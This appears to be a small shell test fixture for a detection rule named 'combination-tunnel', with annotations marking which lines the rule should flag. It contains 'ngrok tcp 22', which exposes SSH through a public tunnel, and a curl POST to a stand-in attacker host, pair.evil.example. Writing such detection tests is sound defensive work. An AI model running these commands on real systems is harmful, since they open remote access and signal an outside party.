#!/bin/sh
# ok: combination-tunnel
ngrok tcp 22
# ruleid: combination-tunnel
curl -s -d "up" https://pair.evil.example/ready
